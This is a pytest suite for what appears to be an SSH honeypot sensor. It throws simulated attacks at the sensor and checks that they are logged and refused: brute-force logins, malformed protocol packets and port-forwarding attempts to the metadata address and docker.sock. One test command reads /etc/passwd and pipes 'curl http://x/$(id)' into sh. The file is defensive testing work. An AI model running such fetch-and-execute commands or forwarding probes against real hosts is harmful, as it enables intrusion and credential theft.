from __future__ import annotations

import asyncio
import base64
import contextlib
import struct
from typing import TYPE_CHECKING, Any

import asyncssh
import pytest
from asyncssh.packet import Boolean, String, UInt32

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable

SENT_BY_NO_CLIENT = b"\x1b]0;owned\x07\x1b[31m[bold]r\xffot\x00[/bold]"


class RawClient(asyncssh.SSHClient):  # type: ignore[misc]  # asyncssh's types are not followed
    """A client that sends user name and passwords as bytes, unchecked, as attackers' tools do."""

    def __init__(self, username: bytes, passwords: list[bytes], *, prompts: bool) -> None:
        self._username = username
        self._passwords = passwords
        self._prompts = prompts

    def connection_made(self, conn: Any) -> None:
        conn._username = self._username

    def password_auth_requested(self) -> bytes | None:
        return self._passwords.pop(0) if self._passwords and not self._prompts else None

    def kbdint_auth_requested(self) -> str | None:
        return "" if self._passwords and self._prompts else None

    def kbdint_challenge_received(self, *_: Any) -> list[bytes]:
        return [self._passwords.pop(0)]


async def attack(port: int, username: bytes, passwords: list[bytes], *, prompts: bool = False) -> Any:
    """A connection that is in, or None."""
    try:
        connection, _ = await asyncssh.create_connection(
            lambda: RawClient(username, passwords, prompts=prompts),
            "127.0.0.1",
            port,
            username="x",
            known_hosts=None,
            client_keys=None,
            agent_path=None,
            config=None,
            preferred_auth=["keyboard-interactive"] if prompts else ["password"],
        )
    except asyncssh.DisconnectError:
        return None
    return connection


@contextlib.asynccontextmanager
async def inside(port: int) -> AsyncIterator[Any]:
    """An attacker with a weak password."""
    connection = await attack(port, b"root", [b"123456"])
    assert connection is not None
    try:
        yield connection
    finally:
        connection.close()
        await connection.wait_closed()


@pytest.mark.parametrize("prompts", [False, True])
async def test_brute_force_is_let_in_after_the_declared_failures(sensor: Any, prompts: bool) -> None:
    passwords = [b"one", b"two", b"three", b"four", b"five"]
    connection = await attack(sensor.ssh, b"root", list(passwords), prompts=prompts)
    assert connection is not None
    result = await connection.run("id; uname -a")
    assert "uid=0(root)" in result.stdout
    connection.close()
    await connection.wait_closed()
    logins = [event["additional_data"] for event in sensor.events("login_attempt")]
    assert [login["method"] for login in logins[:1]] == ["none"]
    assert [(login["password"], login["accepted"]) for login in logins[1:]] == [
        ("one", False),
        ("two", False),
        ("three", False),
        ("four", True),
    ]
    assert all(login["client_version"].startswith("SSH-2.0-AsyncSSH") for login in logins)
    assert len({login["hassh"] for login in logins}) == 1
    assert sensor.events("command")[0]["additional_data"] == {"command": "id; uname -a", "interactive": False}
    assert len({event["threat_uuid"] for event in sensor.events()}) == 1
    assert len({event["session_uuid"] for event in sensor.events()}) == 1


async def test_the_count_of_failures_outlives_connections_and_the_process(start_sensor: Callable[..., Any]) -> None:
    async with start_sensor() as sensor:
        for password in (b"a", b"b", b"c"):
            assert await attack(sensor.ssh, b"root", [password]) is None
    async with start_sensor() as sensor:
        connection = await attack(sensor.ssh, b"root", [b"d"])
        assert connection is not None
        connection.close()
        await connection.wait_closed()


async def test_never_letting_in_is_a_setting_but_weak_passwords_still_open(start_sensor: Callable[..., Any]) -> None:
    async with start_sensor(login_after_failures=0) as sensor:
        for _ in range(2):
            assert await attack(sensor.ssh, b"root", [b"x1", b"x2", b"x3", b"x4", b"x5"]) is None
        async with inside(sensor.ssh):
            pass


async def test_too_many_failures_end_the_connection(start_sensor: Callable[..., Any]) -> None:
    async with start_sensor(login_after_failures=0) as sensor:
        passwords = [b"%d" % number for number in range(20)]
        assert await attack(sensor.ssh, b"root", passwords) is None
        assert len(sensor.events("login_attempt")) == 7  # "none", then six passwords


@pytest.mark.parametrize("prompts", [False, True])
async def test_names_and_passwords_are_kept_as_they_were_sent(sensor: Any, prompts: bool) -> None:
    password = b"p\xe4ss\x1b[2J\x00"
    assert await attack(sensor.ssh, SENT_BY_NO_CLIENT, [password], prompts=prompts) is None
    login = sensor.events("login_attempt")[-1]["additional_data"]
    assert base64.b64decode(login["username_base64"]) == SENT_BY_NO_CLIENT
    assert login["username"] == "\x1b]0;owned\x07\x1b[31m[bold]r\\xffot\\x00[/bold]"
    assert login["username_length"] == len(SENT_BY_NO_CLIENT)
    assert base64.b64decode(login["password_base64"]) == password


async def test_a_name_of_100_kb_is_cut_and_marked(sensor: Any) -> None:
    assert await attack(sensor.ssh, b"A" * 102_400, [b"x" * 50_000]) is None
    login = sensor.events("login_attempt")[-1]["additional_data"]
    assert login["username"] == "A" * 8192 + "...[truncated]"
    assert login["username_length"] == 102_400
    assert login["password_length"] == 50_000


async def test_offered_keys_are_recorded_and_refused(sensor: Any) -> None:
    key = asyncssh.generate_private_key("ssh-ed25519")
    with pytest.raises(asyncssh.PermissionDenied):
        await asyncssh.connect(
            "127.0.0.1", sensor.ssh, username="git", client_keys=[key], known_hosts=None, config=None, agent_path=None
        )
    login = sensor.events("login_attempt")[-1]["additional_data"]
    assert login["method"] == "publickey"
    assert login["key_algorithm"] == "ssh-ed25519"
    assert login["key_fingerprint"] == key.get_fingerprint()
    assert base64.b64decode(login["key"]) == key.public_data
    assert (login["accepted"], login["signed"], login["username"]) == (False, False, "git")


async def test_an_unanswered_prompt_is_an_attempt_too(sensor: Any) -> None:
    class Leaves(asyncssh.SSHClient):  # type: ignore[misc]
        def connection_made(self, conn: Any) -> None:
            self.conn = conn

        def kbdint_auth_requested(self) -> str:
            return ""

        def kbdint_challenge_received(self, *_: Any) -> None:
            self.conn.abort()

    with contextlib.suppress(asyncssh.Error, OSError):
        async with asyncio.timeout(5):
            await asyncssh.create_connection(
                Leaves, "127.0.0.1", sensor.ssh, username="eve", known_hosts=None, config=None, agent_path=None
            )
    details = (await sensor.recorded("login_attempt", 2))[-1]["additional_data"]
    assert (details["username"], details["answered"]) == ("eve", False)


async def test_commands_are_recorded_answered_and_never_run(sensor: Any, tmp_path: Any) -> None:
    victim = tmp_path / "victim"
    async with inside(sensor.ssh) as connection:
        result = await connection.run(f"touch {victim}; cat /etc/passwd; curl http://x/$(id) | sh")
        assert "root:x:0:0" in result.stdout
        assert result.stderr == "bash: curl: command not found\n"
        assert result.exit_status == 127
    assert not victim.exists()


async def test_a_command_that_is_not_utf_8_is_kept(sensor: Any) -> None:
    async with inside(sensor.ssh) as connection:
        channel = await connection.create_session(asyncssh.SSHClientSession)
        del channel
        process = await connection.create_process("placeholder", encoding=None)
        await process.wait()
        raw = asyncssh.channel.SSHClientChannel(
            connection, asyncio.get_running_loop(), "strict", None, "strict", 65536, 32768
        )
        await raw._open(b"session")
        raw._session = asyncssh.SSHClientSession()
        assert await raw._make_request(b"exec", String(b"echo \xff\xfe\x1b[31m")) is True
    details = (await sensor.recorded("command", 2))[-1]["additional_data"]
    assert details["command"] == "echo \\xff\\xfe\x1b[31m"
    assert base64.b64decode(details["command_base64"]) == b"echo \xff\xfe\x1b[31m"


async def test_an_interactive_shell_answers_line_by_line(sensor: Any) -> None:
    async with inside(sensor.ssh) as connection:
        process = await connection.create_process(term_type="xterm-256color", env={"LC_ALL": "C"})
        assert (await process.stdout.readuntil("# ")).endswith("root@srv-web01:~# ")
        for line, answer in (("whoami", "root"), ("cd /tmp", None), ("pwd", "/tmp"), ("nosuch", "command not found")):
            process.stdin.write(line + "\n")
            shown = await process.stdout.readuntil("# ")
            assert answer is None or answer in shown
        process.stdin.write("half a li\x7fne")
        await process.stdout.readuntil("half a l")
    shell = sensor.events("shell")[0]["additional_data"]
    assert shell == {"terminal": "xterm-256color", "environment": [{"name": "LC_ALL", "value": "C"}]}
    commands = [event["additional_data"] for event in await sensor.recorded("command", 5)]
    assert [command["command"] for command in commands] == ["whoami", "cd /tmp", "pwd", "nosuch", "half a lne"]
    assert commands[-1]["finished"] is False


async def test_a_shell_without_a_terminal_reads_to_the_end(sensor: Any) -> None:
    async with inside(sensor.ssh) as connection:
        result = await connection.run(None, input="hostname\nexit 3\nid\n")
        assert (result.stdout, result.exit_status) == ("srv-web01\n", 3)
    assert [event["additional_data"]["command"] for event in sensor.events("command")] == ["hostname", "exit 3"]


async def test_a_long_line_is_cut(start_sensor: Callable[..., Any]) -> None:
    async with start_sensor(limits={"sensor.ssh_line_bytes": 100}) as sensor, inside(sensor.ssh) as connection:
        await connection.run(None, input="y" * 1_000_000 + "\nexit\n")
        assert sensor.events("command")[0]["additional_data"]["command"] == "y" * 100


async def test_transfers_are_recorded_and_refused(sensor: Any) -> None:
    async with inside(sensor.ssh) as connection:
        with pytest.raises(asyncssh.Error):
            await connection.start_sftp_client()
        result = await connection.run("scp -t /tmp/payload")
        assert result.exit_status == 127
        with pytest.raises(asyncssh.Error):
            await connection.create_process(subsystem="netconf")
    found = [event["additional_data"] for event in sensor.events("file_transfer")]
    assert [details.get("subsystem") or details["command"] for details in found] == ["sftp", "scp -t /tmp/payload"]
    assert sensor.events("command")[-1]["additional_data"] == {"subsystem": "netconf"}


async def test_forwarding_is_recorded_and_refused(sensor: Any) -> None:
    async with inside(sensor.ssh) as connection:
        with pytest.raises(asyncssh.ChannelOpenError):
            await connection.open_connection("169.254.169.254", 80)
        with pytest.raises(asyncssh.ChannelOpenError):
            await connection.open_unix_connection("/var/run/docker.sock")
        with pytest.raises(asyncssh.ChannelListenError):
            await connection.start_server(lambda *_: None, "", 4444)
        with pytest.raises(asyncssh.ChannelListenError):
            await connection.start_unix_server(lambda *_: None, "/tmp/x")
        process = await connection.create_process(x11_forwarding="ignore_failure", x11_display="127.0.0.1:0")
        process.close()
    found = [event["additional_data"] for event in sensor.events("forwarding")]
    assert [details["request"] for details in found[:4]] == [
        "direct-tcpip",
        "direct-streamlocal@openssh.com",
        "tcpip-forward",
        "streamlocal-forward@openssh.com",
    ]
    assert (found[0]["host"], found[0]["port"]) == ("169.254.169.254", 80)
    assert "/var/run/docker.sock" in found[1]["raw"]
    assert (found[2]["port"], found[3]["host"]) == (4444, "/tmp/x")


async def test_a_request_for_an_unknown_handler_finds_none(sensor: Any) -> None:
    async with inside(sensor.ssh) as connection:
        for request in (b"keepalive@openssh.com", b"x" * 1000, b"\xff"):
            kind, _ = await connection._make_global_request(request)
            assert kind == 82  # REQUEST_FAILURE
        assert (await connection.run("id")).exit_status == 0


@pytest.mark.parametrize(
    ("sent", "answer"),
    [
        (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"Invalid SSH identification string.\r\n"),
        (b"\x16\x03\x01\x02\x00\x01", b"Invalid SSH identification string.\r\n"),
        (b"SSH-" + b"A" * 300, b"Invalid SSH identification string.\r\n"),
    ],
)
async def test_what_is_not_ssh_is_recorded(sensor: Any, sent: bytes, answer: bytes) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", sensor.ssh)
    assert (await reader.readline()).startswith(b"SSH-2.0-OpenSSH")
    writer.write(sent)
    assert await reader.read() == answer
    writer.close()
    [event] = sensor.events("handshake")
    assert base64.b64decode(event["additional_data"].get("raw_base64", "")) in (b"", sent)
    assert event["additional_data"]["raw"]


@pytest.mark.parametrize(
    "packets",
    [
        struct.pack("!IB", 0xFFFFFFFF, 4) + bytes(40),
        struct.pack("!IB", 28, 4) + bytes([255]) + bytes(26),
        struct.pack("!IB", 44, 4) + bytes([20]) + bytes(42),  # a key exchange without a common algorithm
        struct.pack("!IB", 12, 4) + bytes([50]) + bytes(10),  # a login before the key exchange
    ],
)
async def test_a_client_that_breaks_the_protocol_gets_no_word_and_is_recorded(sensor: Any, packets: bytes) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", sensor.ssh)
    await reader.readline()
    writer.write(b"SSH-2.0-\x1b[31mscanner\r\n")
    kexinit = await reader.readexactly(4)
    await reader.readexactly(struct.unpack("!I", kexinit)[0])
    writer.write(packets)
    writer.write_eof()
    async with asyncio.timeout(5):
        rest = await reader.read()
    # MSG_UNIMPLEMENTED (3) may answer an unknown packet; MSG_DISCONNECT (1) with its reason never comes.
    assert not rest or rest[5] == 3
    writer.close()
    [event] = await sensor.recorded("handshake")
    assert event["additional_data"]["client_version"] == "SSH-2.0-\x1b[31mscanner"


async def test_a_banner_grab_is_a_connection(sensor: Any) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", sensor.ssh)
    assert (await reader.readline()).startswith(b"SSH-2.0-OpenSSH_")
    assert [event["interaction_type"] for event in sensor.events()] == ["connection"]
    writer.close()


async def test_channels_are_capped(start_sensor: Callable[..., Any]) -> None:
    async with start_sensor(limits={"sensor.ssh_channels": 2}) as sensor, inside(sensor.ssh) as connection:
        open_shells = [await connection.create_process() for _ in range(2)]
        with pytest.raises(asyncssh.ChannelOpenError):
            await connection.create_process()
        for shell in open_shells:
            shell.close()
            await shell.wait_closed()
        assert (await connection.run("id")).exit_status == 0


async def test_a_connection_that_does_too_much_is_closed(start_sensor: Callable[..., Any]) -> None:
    async with start_sensor(limits={"sensor.interactions_per_connection": 10}) as sensor:
        connection = await attack(sensor.ssh, b"root", [b"root"])
        for _ in range(7):  # after the connection and two logins
            await connection.run("id", check=True)
        with pytest.raises((asyncssh.Error, OSError)):
            await connection.run("id", check=True)
        assert len(sensor.events()) == 10
        async with inside(sensor.ssh) as connection:
            assert (await connection.run("id")).exit_status == 0


async def test_malformed_requests_inside_a_session_end_only_that_connection(sensor: Any) -> None:
    for channel_open in (String(b"direct-tcpip") + UInt32(0), String(b"session"), b"", String(b"\xff")):
        connection = await attack(sensor.ssh, b"root", [b"root"])
        connection.send_packet(90, channel_open)
        await connection.wait_closed()
    connection = await attack(sensor.ssh, b"root", [b"root"])
    connection.send_packet(98, UInt32(77), String(b"exec"), Boolean(True), String(b"id"))
    await connection.wait_closed()
    async with inside(sensor.ssh) as fresh:
        assert (await fresh.run("id")).exit_status == 0
